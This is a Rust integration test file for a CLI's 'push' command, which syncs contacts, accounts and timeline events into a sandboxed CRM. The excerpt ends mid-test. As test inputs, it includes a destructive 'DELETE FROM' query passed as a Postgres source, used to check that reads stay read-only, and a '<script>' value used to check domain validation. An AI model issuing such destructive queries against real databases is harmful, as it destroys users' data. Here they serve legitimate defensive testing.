//! CLI tests: `push` (issue 7). The real binary against an in-process sandbox on a free port,
//! a temp data dir with a credential, and the sandbox's own view (`/__sandbox/*` and lookups
//! with a second token) to check what landed in Drift.

use crate::util::{attr, outcomes, Cli, Sandbox, OBSERVER};
use drift_sandbox::FaultSpec;
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::process::Command;

const MIXED: &str = "email,name,tier\n\
new@example.com,New Person,gold\n\
ada@example.com,Ada Lovelace,pro\n\
grace@example.com,Grace,free\n\
twin@example.com,Twin,gold\n\
not-an-email,Bad Email,gold\n\
,Nobody,gold\n\
zoë@example.com,\"Zoë Ångström, 李小龍\",platinum\n\
,,\n";

/// Seeds the contacts the mixed file refers to: ada (to update), grace (unchanged), and two
/// contacts sharing twin@example.com. Returns (ada, twin1, twin2) ids.
fn seed_mixed(sandbox: &Sandbox) -> (i64, i64, i64) {
    let ada = sandbox.create(json!({"email": "ada@example.com", "name": "Ada", "plan": "free"}));
    sandbox.create(json!({"email": "grace@example.com", "name": "Grace", "plan": "free"}));
    let t1 = sandbox.create(json!({"email": "twin@example.com", "externalId": "t-1"}));
    let t2 = sandbox.create(json!({"email": "twin@example.com", "externalId": "t-2"}));
    (ada, t1, t2)
}

#[test]
fn mixed_csv_gets_one_expected_outcome_per_row_and_the_sandbox_matches() {
    let sandbox = Sandbox::start();
    let (ada, t1, t2) = seed_mixed(&sandbox);
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("contacts.csv", MIXED);
    let before = sandbox.contact_count();

    let run = cli.push("contacts", &from, "r1.csv", &["--map", "tier=plan"]);
    assert_eq!(run.code, 5, "rejected rows mean exit 5: {}", run.stderr);
    let r = cli.results("r1.csv");
    assert_eq!(
        outcomes(&r),
        vec![
            (1, "created"),
            (2, "updated"),
            (3, "unchanged"),
            (4, "rejected"),
            (5, "rejected"),
            (6, "rejected"),
            (7, "created"),
            (8, "skipped"),
        ]
    );
    assert_eq!(r[&2].1, ada.to_string());
    assert!(
        r[&4].2.contains(&t1.to_string()) && r[&4].2.contains(&t2.to_string()),
        "{}",
        r[&4].2
    );
    assert!(r[&4].2.contains("--on-duplicate"), "{}", r[&4].2);
    assert!(r[&5].2.contains("not an email"), "{}", r[&5].2);
    assert!(r[&6].2.contains("missing key"), "{}", r[&6].2);
    assert!(
        run.stdout
            .contains("created 2, updated 1, unchanged 1, skipped 1, rejected 3"),
        "{}",
        run.stdout
    );

    // The sandbox holds exactly what the results say.
    assert_eq!(sandbox.contact_count(), before + 2);
    let new = sandbox.by_email("new@example.com");
    assert_eq!(new.len(), 1);
    assert_eq!(r[&1].1, new[0].id.to_string());
    assert_eq!(attr(&new[0], "name"), Some(&json!("New Person")));
    assert_eq!(attr(&new[0], "plan"), Some(&json!("gold")));
    let ada_now = &sandbox.by_email("ada@example.com")[0];
    assert_eq!(attr(ada_now, "name"), Some(&json!("Ada Lovelace")));
    assert_eq!(attr(ada_now, "plan"), Some(&json!("pro")));
    let zoe = sandbox.by_email("zoë@example.com");
    assert_eq!(zoe.len(), 1);
    assert_eq!(attr(&zoe[0], "name"), Some(&json!("Zoë Ångström, 李小龍")));
    for twin in sandbox.by_email("twin@example.com") {
        assert_eq!(attr(&twin, "name"), None, "a rejected row must not write");
    }

    // The second run of the same file creates nothing and sends no write.
    let creates = sandbox.route_count("contacts.create");
    let updates = sandbox.route_count("contacts.update");
    let again = cli.push("contacts", &from, "r2.csv", &["--map", "tier=plan"]);
    assert_eq!(again.code, 5, "{}", again.stderr);
    let r2 = cli.results("r2.csv");
    for row in [1, 2, 3, 7] {
        assert_eq!(r2[&row].0, "unchanged", "row {row}: {:?}", r2[&row]);
    }
    assert_eq!(sandbox.contact_count(), before + 2);
    assert_eq!(sandbox.route_count("contacts.create"), creates);
    assert_eq!(sandbox.route_count("contacts.update"), updates);

    // Re-feed only the rejected rows, now updating the first of the duplicates.
    let refeed = cli.path("r1.csv").display().to_string();
    let fixed = cli.push(
        "contacts",
        &refeed,
        "r3.csv",
        &[
            "--only",
            "rejected",
            "--on-duplicate",
            "first",
            "--map",
            "tier=plan",
        ],
    );
    assert_eq!(fixed.code, 5, "{}", fixed.stderr);
    let r3 = cli.results("r3.csv");
    assert_eq!(
        outcomes(&r3),
        vec![(4, "updated"), (5, "rejected"), (6, "rejected")]
    );
    assert_eq!(r3[&4].1, t1.to_string(), "first = earliest created");
    assert!(
        fixed.stdout.contains("5 rows left out by --only"),
        "{}",
        fixed.stdout
    );
}

#[test]
fn a_503_on_the_create_is_looked_up_then_retried_and_creates_exactly_one_contact() {
    let fault = FaultSpec {
        route: "contacts.create".into(),
        kind: drift_sandbox::FaultKind::Status,
        status: Some(503),
        after_requests: 0,
        count: Some(1),
        probability: None,
        delay_ms: None,
    };
    let sandbox = Sandbox::small().faults(vec![fault]).start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("one.csv", "email,name\nretry@example.com,Retry Me\n");
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let r = cli.results("r.csv");
    assert_eq!(outcomes(&r), vec![(1, "created")]);
    assert!(r[&1].2.contains("attempt 2"), "{}", r[&1].2);
    let found = sandbox.by_email("retry@example.com");
    assert_eq!(found.len(), 1);
    assert_eq!(r[&1].1, found[0].id.to_string());
    assert_eq!(sandbox.route_count("contacts.create"), 2);
}

#[test]
fn a_create_whose_answer_is_lost_is_found_by_lookup_and_not_sent_again() {
    let fault = FaultSpec {
        route: "contacts.create".into(),
        kind: drift_sandbox::FaultKind::Reset,
        status: None,
        after_requests: 0,
        count: Some(1),
        probability: None,
        delay_ms: None,
    };
    let sandbox = Sandbox::small().faults(vec![fault]).start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("one.csv", "email,name\nlost@example.com,Lost Answer\n");
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let r = cli.results("r.csv");
    assert_eq!(outcomes(&r), vec![(1, "created")]);
    assert!(r[&1].2.contains("had landed"), "{}", r[&1].2);
    assert_eq!(sandbox.by_email("lost@example.com").len(), 1);
    assert_eq!(sandbox.route_count("contacts.create"), 1, "never re-sent");
}

#[test]
fn a_401_mid_run_exits_3_and_the_results_list_every_processed_row() {
    let fault = FaultSpec {
        route: "contacts.create".into(),
        kind: drift_sandbox::FaultKind::RevokeToken,
        status: None,
        after_requests: 10,
        count: Some(1),
        probability: None,
        delay_ms: None,
    };
    let sandbox = Sandbox::small().faults(vec![fault]).start();
    let cli = Cli::with_sb(&sandbox);
    let mut csv = String::from("email,name\n");
    for i in 1..=40 {
        csv.push_str(&format!("user{i}@example.com,User {i}\n"));
    }
    let from = cli.write("many.csv", &csv);
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 3, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("401"), "{}", run.stderr);
    let r = cli.results("r.csv");
    // 40 rows fit in the workers' queues: every row is read, so every row has an outcome
    // (the ones queued when the run stopped are rejected as not sent).
    assert!(r.len() >= 10 && r.len() <= 40, "{} rows", r.len());
    assert_eq!(
        r.keys().copied().collect::<Vec<_>>(),
        (1..=r.len() as u64).collect::<Vec<_>>()
    );
    for i in 1..=40u64 {
        let landed = sandbox.by_email(&format!("user{i}@example.com"));
        match r.get(&i) {
            Some((outcome, id, _)) if outcome == "created" => {
                assert_eq!(landed.len(), 1, "row {i}");
                assert_eq!(*id, landed[0].id.to_string());
            }
            Some((outcome, _, reason)) => {
                assert_eq!(outcome, "rejected", "row {i}");
                assert!(reason.contains("401"), "{reason}");
                assert!(landed.is_empty(), "row {i}");
            }
            None => assert!(landed.is_empty(), "row {i} has no outcome but landed"),
        }
    }
    let store = store::Store::open(&cli.data_dir()).unwrap();
    assert_eq!(
        store.credential("sb").unwrap().status,
        store::CredentialStatus::Failed
    );
}

#[test]
fn dry_run_looks_up_and_prints_but_makes_no_write_request() {
    let sandbox = Sandbox::start();
    let (ada, _, _) = seed_mixed(&sandbox);
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("contacts.csv", MIXED);
    let before = sandbox.contact_count();
    let writes = |s: &Sandbox| {
        [
            "contacts.create",
            "contacts.update",
            "contacts.timeline",
            "contacts.delete",
        ]
        .iter()
        .map(|r| s.route_count(r))
        .sum::<u64>()
    };
    let writes_before = writes(&sandbox);
    let lookups_before = sandbox.route_count("contacts.find");
    let run = cli.push(
        "contacts",
        &from,
        "dry.csv",
        &["--dry-run", "--map", "tier=plan"],
    );
    assert_eq!(run.code, 5, "{}", run.stderr);
    assert_eq!(writes(&sandbox), writes_before, "a dry run wrote to Drift");
    assert!(
        sandbox.route_count("contacts.find") > lookups_before,
        "a dry run looks up"
    );
    assert_eq!(sandbox.contact_count(), before);
    assert!(run.stdout.contains("POST /contacts"), "{}", run.stdout);
    assert!(
        run.stdout.contains(&format!("PATCH /contacts/{ada}")),
        "{}",
        run.stdout
    );
    let r = cli.results("dry.csv");
    assert_eq!(r[&1].0, "created");
    assert_eq!(r[&2].0, "updated");
    assert!(r[&1].2.starts_with("dry run"), "{}", r[&1].2);
    assert_eq!(
        attr(&sandbox.by_email("ada@example.com")[0], "name"),
        Some(&json!("Ada"))
    );
}

#[test]
fn accounts_upsert_by_domain_and_timeline_events_are_not_sent_twice() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let accounts = cli.write(
        "accounts.jsonl",
        "{\"domain\":\"acme.example\",\"name\":\"Acme\",\"ownerId\":1}\n\
         {\"domain\":\"orphan.example\",\"name\":\"No Owner\"}\n",
    );
    let run = cli.push("accounts", &accounts, "a1.csv", &[]);
    assert_eq!(run.code, 5, "{}", run.stderr);
    let r = cli.results("a1.csv");
    assert_eq!(outcomes(&r), vec![(1, "created"), (2, "rejected")]);
    assert!(r[&2].2.contains("ownerId"), "{}", r[&2].2);
    let renamed = cli.write(
        "accounts2.jsonl",
        "{\"domain\":\"www.ACME.example\",\"name\":\"Acme Corp\"}\n",
    );
    let run = cli.push("accounts", &renamed, "a2.csv", &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let r2 = cli.results("a2.csv");
    assert_eq!(outcomes(&r2), vec![(1, "updated")]);
    assert_eq!(r2[&1].1, r[&1].1, "the same account");
    let acct = sandbox
        .runtime
        .block_on(sandbox.observer().account(&r[&1].1))
        .unwrap();
    assert_eq!(acct.name.as_deref(), Some("Acme Corp"));
    assert_eq!(
        acct.domain.as_deref(),
        Some("acme.example"),
        "the key is not rewritten"
    );

    let contact = sandbox.create(json!({"email": "tl@example.com"}));
    let events = cli.write(
        "events.csv",
        &format!("contactId,event,at\n{contact},Signed up,2024-05-01T12:00:00Z\n"),
    );
    let first = cli.push("timeline", &events, "t1.csv", &["--map", "at=createdAt"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert_eq!(outcomes(&cli.results("t1.csv")), vec![(1, "created")]);
    let posted = sandbox.route_count("contacts.timeline");
    let second = cli.push("timeline", &events, "t2.csv", &["--map", "at=createdAt"]);
    assert_eq!(second.code, 0, "{}", second.stderr);
    assert_eq!(outcomes(&cli.results("t2.csv")), vec![(1, "unchanged")]);
    assert_eq!(sandbox.route_count("contacts.timeline"), posted);
}

#[test]
fn a_saved_push_destination_runs_again_by_name() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("c.csv", "mail,tier\nsaved@example.com,gold\n");
    let run = cli.push(
        "contacts",
        &from,
        "s1.csv",
        &["--map", "mail=email,tier=plan", "--save", "crm-leads"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let from2 = cli.write("c2.csv", "mail,tier\nsaved@example.com,platinum\n");
    let results = cli.path("s2.csv").display().to_string();
    let again = cli.run(&[
        "push",
        "--destination",
        "crm-leads",
        "--from",
        &from2,
        "--results",
        &results,
    ]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(outcomes(&cli.results("s2.csv")), vec![(1, "updated")]);
    let c = &sandbox.by_email("saved@example.com")[0];
    assert_eq!(attr(c, "plan"), Some(&json!("platinum")));
}

#[test]
fn bad_flags_and_inputs_exit_2_naming_the_fix() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("c.csv", "email\na@example.com\n");
    let cases: [(&[&str], &str); 4] = [
        (
            &["--key", "domain"],
            "--key domain does not apply to contacts",
        ),
        (&["--map", "nosuch=email"], "nosuch"),
        (&["--map", "email"], "column=attribute"),
        (&["--only", "rejected"], "results file"),
    ];
    for (extra, needle) in cases {
        let run = cli.push("contacts", &from, "r.csv", extra);
        assert_eq!(run.code, 2, "{extra:?}: {}", run.stderr);
        assert!(run.stderr.contains(needle), "{extra:?}: {}", run.stderr);
    }
    let missing = cli.push("contacts", "nope.csv", "r.csv", &[]);
    assert_eq!(missing.code, 2);
    assert!(missing.stderr.contains("nope.csv"), "{}", missing.stderr);
}

/// PostgreSQL server for the `--from postgres://` test (as the destination tests use).
fn postgres_url() -> String {
    std::env::var("DRIFTBRIDGE_TEST_POSTGRES_URL")
        .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/test".into())
}

#[test]
fn contacts_stream_from_a_postgres_query() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let table = format!("push_src_{}", std::process::id());
    let exec = |sql: String| {
        sandbox.runtime.block_on(async {
            let (client, conn) = tokio_postgres::connect(&postgres_url(), tokio_postgres::NoTls)
                .await
                .unwrap();
            tokio::spawn(conn);
            client.batch_execute(&sql).await.unwrap();
        })
    };
    exec(format!(
        "DROP TABLE IF EXISTS {table};
         CREATE TABLE {table} (mail TEXT, full_name TEXT, score INT, signed_up TIMESTAMPTZ, keep BOOL);
         INSERT INTO {table} VALUES
           ('pg1@example.com', 'Pg One', 7, '2024-05-01T12:00:00Z', true),
           ('pg2@example.com', 'Pg Two', 9, NULL, false),
           ('pg3@example.com', 'Skipped', 1, NULL, true);"
    ));
    let from = format!(
        "{}?query=SELECT mail, full_name, score, signed_up FROM {table} WHERE keep ORDER BY mail",
        postgres_url()
    );
    let run = cli.push(
        "contacts",
        &from,
        "pg.csv",
        &[
            "--map",
            "mail=email,full_name=name,score=score:number,signed_up=signed_up:date",
        ],
    );
    // The input is only read: a query that writes fails and changes nothing, and naming
    // both a table and a query is refused.
    let delete = format!(
        "{}?query=DELETE FROM {table} RETURNING mail AS email",
        postgres_url()
    );
    let refused = cli.push("contacts", &delete, "del.csv", &["--dry-run"]);
    let both = cli.push(
        "contacts",
        &format!("{}?table={table}&query=SELECT 1", postgres_url()),
        "both.csv",
        &["--dry-run"],
    );
    let left = sandbox.runtime.block_on(async {
        let (client, conn) = tokio_postgres::connect(&postgres_url(), tokio_postgres::NoTls)
            .await
            .unwrap();
        tokio::spawn(conn);
        let row = client
            .query_one(&format!("SELECT count(*) FROM {table}"), &[])
            .await
            .unwrap();
        row.get::<_, i64>(0)
    });
    exec(format!("DROP TABLE {table}"));
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("read-only transaction"),
        "{}",
        refused.stderr
    );
    assert_eq!(left, 3, "the query deleted rows");
    assert_eq!(both.code, 2, "{}", both.stderr);
    assert!(
        both.stderr.contains("more than one table or query"),
        "{}",
        both.stderr
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        outcomes(&cli.results("pg.csv")),
        vec![(1, "created"), (2, "created")]
    );
    let c = &sandbox.by_email("pg1@example.com")[0];
    assert_eq!(attr(c, "name"), Some(&json!("Pg One")));
    assert_eq!(attr(c, "score"), Some(&json!(7)));
    assert_eq!(attr(c, "signed_up"), Some(&json!(1_714_564_800_000i64)));
    assert!(
        sandbox.by_email("pg2@example.com").is_empty(),
        "filtered by the query"
    );
}

#[test]
fn a_reader_that_stops_early_neither_crashes_a_push_nor_cuts_its_results_file() {
    use std::io::BufRead;
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let mut csv = String::from("email,name\n");
    for i in 0..400 {
        csv.push_str(&format!("reader{i}@example.com,Reader {i}\n"));
    }
    let from = cli.write("many.csv", &csv);
    let results = cli.path("dr.csv").display().to_string();
    // `driftbridge push ... --dry-run | head -1`
    let mut child = cli
        .command(&[
            "push",
            "contacts",
            "--credential",
            "sb",
            "--from",
            &from,
            "--results",
            &results,
            "--dry-run",
        ])
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    // The reader is gone now; every later line meets a closed pipe.
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        first.starts_with("row ") && first.contains(": created"),
        "{first}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(
        cli.results("dr.csv").len(),
        400,
        "every row has its outcome"
    );
}

/// `row -> input` (the JSON object) of a results file.
fn inputs(cli: &Cli, name: &str) -> BTreeMap<u64, Value> {
    let mut reader = csv::Reader::from_path(cli.path(name)).unwrap();
    reader
        .records()
        .map(|rec| {
            let rec = rec.unwrap();
            (
                rec[0].parse().unwrap(),
                serde_json::from_str(&rec[5]).unwrap(),
            )
        })
        .collect()
}

#[test]
fn unreadable_rows_keep_their_text_in_the_results_and_stay_in_the_retry_loop() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let mut bytes = b"email,name,note,score\n".to_vec();
    bytes.extend_from_slice(b"fine@example.com,Fine,,1\n");
    bytes.extend_from_slice(b"carol@example.com,Carol,,7,extra\n");
    bytes.extend_from_slice(b"jose@example.com,Jos\xe9,,3\n");
    bytes.extend_from_slice(b"dave@example.com,\"Dave,,4\n");
    std::fs::write(cli.path("bad.csv"), bytes).unwrap();
    let from = cli.path("bad.csv").display().to_string();
    let run = cli.push("contacts", &from, "r1.csv", &[]);
    assert_eq!(run.code, 5, "{}", run.stderr);
    let r1 = cli.results("r1.csv");
    assert_eq!(
        outcomes(&r1),
        vec![
            (1, "created"),
            (2, "rejected"),
            (3, "rejected"),
            (4, "rejected")
        ]
    );
    assert!(r1[&2].2.contains("5 fields"), "{}", r1[&2].2);
    assert!(r1[&3].2.contains("UTF-8"), "{}", r1[&3].2);
    assert!(
        r1[&4].2.contains("quote that is never closed"),
        "{}",
        r1[&4].2
    );
    let in1 = inputs(&cli, "r1.csv");
    assert_eq!(in1[&2]["_raw"], json!("carol@example.com,Carol,,7,extra"));
    assert_eq!(in1[&3]["_raw"], json!("jose@example.com,Jos\u{FFFD},,3"));
    assert_eq!(in1[&4]["_raw"], json!("dave@example.com,\"Dave,,4"));

    // The suggested retry: every rejected row is rejected again, for the same reason,
    // and keeps its text for the next retry; none becomes an empty row.
    let refeed = cli.path("r1.csv").display().to_string();
    let retry = cli.push("contacts", &refeed, "r2.csv", &["--only", "rejected"]);
    assert_eq!(retry.code, 5, "{}", retry.stderr);
    let r2 = cli.results("r2.csv");
    assert_eq!(
        outcomes(&r2),
        vec![(2, "rejected"), (3, "rejected"), (4, "rejected")]
    );
    for row in [2, 3, 4] {
        assert_eq!(r2[&row].2, r1[&row].2, "row {row}: the same reason");
    }
    assert_eq!(inputs(&cli, "r2.csv")[&2], in1[&2]);

    // Fixed in the results file, the row goes through.
    let text = std::fs::read_to_string(cli.path("r2.csv"))
        .unwrap()
        .replace(",7,extra", ",7");
    let fixed = cli.write("r2-fixed.csv", &text);
    let third = cli.push("contacts", &fixed, "r3.csv", &["--only", "rejected"]);
    assert_eq!(third.code, 5, "{}", third.stderr);
    assert_eq!(cli.results("r3.csv")[&2].0, "created");
    let carol = sandbox.by_email("carol@example.com");
    assert_eq!(carol.len(), 1);
    assert_eq!(attr(&carol[0], "name"), Some(&json!("Carol")));
}

#[test]
fn account_domains_that_are_not_host_names_are_rejected_per_row() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write(
        "acc.csv",
        "domain,name,ownerId\n\
         not a domain,Bad,2400001\n\
         good.example,Good,2400001\n\
         <script>,Script,2400001\n\
         https://www.pasted.example/,Pasted,2400001\n",
    );
    let expected = vec![
        (1, "rejected"),
        (2, "created"),
        (3, "rejected"),
        (4, "created"),
    ];
    let accounts = |s: &Sandbox| s.admin("counts")["accounts"].as_u64().unwrap();
    let before = accounts(&sandbox);

    let dry = cli.push("accounts", &from, "dry.csv", &["--dry-run"]);
    assert_eq!(dry.code, 5, "{}", dry.stderr);
    let d = cli.results("dry.csv");
    assert_eq!(outcomes(&d), expected, "a dry run checks domains too");
    assert!(
        d[&3].2.contains("`<script>` is not a domain name"),
        "{}",
        d[&3].2
    );

    let run = cli.push("accounts", &from, "r.csv", &[]);
    assert_eq!(run.code, 5, "{}", run.stderr);
    let r = cli.results("r.csv");
    assert_eq!(outcomes(&r), expected);
    let reason = &r[&1].2;
    assert!(
        reason.contains("domain: `not a domain` is not a domain name"),
        "names the column and the value: {reason}"
    );
    assert!(
        reason.contains("like example.com"),
        "names the fix: {reason}"
    );
    assert_eq!(accounts(&sandbox), before + 2, "only the valid rows landed");
    let domain_of = |id: &str| {
        sandbox
            .runtime
            .block_on(sandbox.observer().account(id))
            .unwrap()
            .domain
    };
    assert_eq!(domain_of(&r[&2].1).as_deref(), Some("good.example"));
    assert_eq!(
        domain_of(&r[&4].1).as_deref(),
        Some("www.pasted.example"),
        "a pasted URL is sent as its host"
    );
}

#[test]
fn a_dry_run_plans_later_rows_with_the_effects_of_earlier_rows_like_the_real_run() {
    let sandbox = Sandbox::start();
    sandbox.create(json!({"email": "ada@example.com", "name": "Ada", "plan": "free"}));
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write(
        "dups.csv",
        "email,name,plan\n\
         alice@example.com,Alice,free\n\
         ada@example.com,Ada Lovelace,pro\n\
         bob@example.com,Bob,free\n\
         ada@example.com,Ada Lovelace,pro\n\
         bob@example.com,Bob,free\n\
         alice@example.com,Alice,gold\n",
    );
    let dry = cli.push(
        "contacts",
        &from,
        "dry.csv",
        &["--dry-run", "--include-unmapped"],
    );
    assert_eq!(dry.code, 0, "{}", dry.stderr);
    assert!(
        sandbox.by_email("alice@example.com").is_empty(),
        "a dry run wrote"
    );
    let d = cli.results("dry.csv");
    let expected = vec![
        (1, "created"),
        (2, "updated"),
        (3, "created"),
        (4, "unchanged"),
        (5, "unchanged"),
        (6, "updated"),
    ];
    assert_eq!(outcomes(&d), expected);
    assert!(
        d[&6].2.contains("would update the contact row 1 creates"),
        "{}",
        d[&6].2
    );
    assert!(
        d[&6].2.contains("PATCH") && d[&6].2.contains("gold"),
        "{}",
        d[&6].2
    );
    assert!(!d[&6].2.contains("POST"), "{}", d[&6].2);
    assert!(d[&5].2.contains("row 3 creates"), "{}", d[&5].2);

    let run = cli.push("contacts", &from, "real.csv", &["--include-unmapped"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let r = cli.results("real.csv");
    assert_eq!(outcomes(&r), expected, "the dry run foretold the real run");
    let alice = sandbox.by_email("alice@example.com");
    assert_eq!(alice.len(), 1, "one contact for rows 1 and 6");
    assert_eq!(attr(&alice[0], "plan"), Some(&json!("gold")));
    assert_eq!(r[&6].1, alice[0].id.to_string());
}

/// `--results` naming what the run reads is refused before anything is written: creating
/// the results file would empty the input, and the reader would then read the lines the
/// writer appends, rejecting each and appending another, until the disk is full.
#[test]
fn a_results_file_that_is_an_input_is_refused_and_the_input_is_left_intact() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let text = "email,name\nloop@example.com,Loop\nnot-an-email,Bad\n";
    let from = cli.write("loop.csv", text);
    std::os::unix::fs::symlink(cli.path("loop.csv"), cli.path("link.csv")).unwrap();
    std::fs::hard_link(cli.path("loop.csv"), cli.path("hard.csv")).unwrap();
    let db = cli.path("in.db");
    let conn = rusqlite::Connection::open(&db).unwrap();
    conn.execute_batch("CREATE TABLE t (email TEXT); INSERT INTO t VALUES ('sq@example.com');")
        .unwrap();
    drop(conn);
    let db_bytes = std::fs::read(&db).unwrap();
    let sqlite = format!("sqlite:{}?table=t", db.display());
    let mapping = cli.write("map.json", r#"{"email": "email"}"#);
    let store = cli.data_dir().join("driftbridge.db").display().to_string();
    let cases: [(&[&str], &str); 7] = [
        (&["--from", &from, "--results", &from], "the input file"),
        (
            &["--from", "loop.csv", "--results", "./loop.csv"],
            "the input file",
        ),
        (
            &["--from", &from, "--results", "link.csv"],
            "the input file",
        ),
        (
            &["--from", &from, "--results", "hard.csv"],
            "the input file",
        ),
        (&["--from", &sqlite, "--results", "in.db"], "the input file"),
        (
            &[
                "--from",
                &from,
                "--mapping",
                &mapping,
                "--results",
                &mapping,
            ],
            "the mapping file",
        ),
        (&["--from", &from, "--results", &store], "data directory"),
    ];
    for (extra, what) in cases {
        let mut args = vec!["push", "contacts", "--credential", "sb", "--dry-run", "-q"];
        args.extend_from_slice(extra);
        let run = cli.run(&args);
        assert_eq!(run.code, 2, "{extra:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("--results") && run.stderr.contains(what),
            "{extra:?}: names the flag and the file: {}",
            run.stderr
        );
        assert!(
            run.stderr.contains("choose another path for --results"),
            "{extra:?}: names the fix: {}",
            run.stderr
        );
        assert_eq!(std::fs::read_to_string(&from).unwrap(), text, "{extra:?}");
    }
    assert_eq!(
        std::fs::read(&db).unwrap(),
        db_bytes,
        "the database is intact"
    );
    assert_eq!(
        std::fs::read_to_string(&mapping).unwrap(),
        r#"{"email": "email"}"#
    );
    assert!(
        store::Store::open(&cli.data_dir()).is_ok(),
        "the store is intact"
    );
}

#[test]
fn a_jsonl_file_starting_with_a_byte_order_mark_is_read_from_its_first_row() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(b"{\"email\": \"bom1@example.com\", \"name\": \"Bom One\"}\r\n");
    bytes.extend_from_slice(b"{\"email\": \"bom2@example.com\"}\r\n");
    std::fs::write(cli.path("bom.jsonl"), bytes).unwrap();
    let from = cli.path("bom.jsonl").display().to_string();
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        outcomes(&cli.results("r.csv")),
        vec![(1, "created"), (2, "created")]
    );
    let c = &sandbox.by_email("bom1@example.com")[0];
    assert_eq!(attr(c, "name"), Some(&json!("Bom One")));
}

#[test]
fn a_quote_that_is_not_doubled_inside_a_quoted_csv_value_rejects_the_row() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write(
        "q.csv",
        "email,name,company\n\
         dave@example.com,\"Dave \"the\" man\",Acme\n\
         erin@example.com,\"Erin \"\"the\"\" boss\",Acme\n\
         fred@example.com,\"Fred\" Jr,Acme\n\
         gina@example.com,5\" Gina,Acme\n",
    );
    let run = cli.push("contacts", &from, "r1.csv", &[]);
    assert_eq!(run.code, 5, "{}", run.stderr);
    let r1 = cli.results("r1.csv");
    assert_eq!(
        outcomes(&r1),
        vec![
            (1, "rejected"),
            (2, "created"),
            (3, "rejected"),
            (4, "created")
        ]
    );
    for row in [1, 3] {
        let reason = &r1[&row].2;
        assert!(
            reason.contains("column 2 `name`") && reason.contains("not doubled"),
            "names the column: {reason}"
        );
        assert!(reason.contains("twice (\"\")"), "names the fix: {reason}");
    }
    assert!(
        sandbox.by_email("dave@example.com").is_empty(),
        "a garbled name was sent"
    );
    let erin = &sandbox.by_email("erin@example.com")[0];
    assert_eq!(attr(erin, "name"), Some(&json!("Erin \"the\" boss")));
    let gina = &sandbox.by_email("gina@example.com")[0];
    assert_eq!(attr(gina, "name"), Some(&json!("5\" Gina")));
    assert_eq!(
        inputs(&cli, "r1.csv")[&1]["_raw"],
        json!("dave@example.com,\"Dave \"the\" man\",Acme")
    );

    // Re-fed, the kept row is rejected again for the same reason.
    let refeed = cli.path("r1.csv").display().to_string();
    let retry = cli.push("contacts", &refeed, "r2.csv", &["--only", "rejected"]);
    assert_eq!(retry.code, 5, "{}", retry.stderr);
    let r2 = cli.results("r2.csv");
    assert_eq!(outcomes(&r2), vec![(1, "rejected"), (3, "rejected")]);
    assert_eq!(r2[&1].2, r1[&1].2);
}

#[test]
fn postgres_input_errors_show_the_servers_message_and_no_password() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let base = postgres_url();
    let with_password = {
        let mut u = url::Url::parse(&base).unwrap();
        u.set_password(Some("s3cret-pw")).unwrap();
        u.set_path("/no_such_database_db");
        u.to_string()
    };
    let cases = [
        (
            format!("{base}?table=nosuch"),
            r#"relation "nosuch" does not exist"#,
        ),
        (format!("{base}?query=selec nonsense"), "syntax error"),
        (format!("{base}?query=select 1/0 AS n"), "division by zero"),
        (
            format!("{with_password}?table=t"),
            r#"database "no_such_database_db" does not exist"#,
        ),
    ];
    for (from, needle) in cases {
        let run = cli.push("contacts", &from, "r.csv", &["--dry-run"]);
        assert_eq!(run.code, 2, "{from}: a setup error: {}", run.stderr);
        assert!(run.stderr.contains(needle), "{from}: {}", run.stderr);
        assert!(!run.stderr.contains("s3cret-pw"), "{}", run.stderr);
    }
}

#[test]
fn an_empty_input_warns_and_a_csv_without_a_header_is_refused() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let empty = cli.write("empty.csv", "");
    let run = cli.push("contacts", &empty, "r.csv", &["--dry-run"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("empty.csv") && run.stderr.contains("no header row"),
        "{}",
        run.stderr
    );

    for (name, text) in [
        ("header.csv", "email,name\n"),
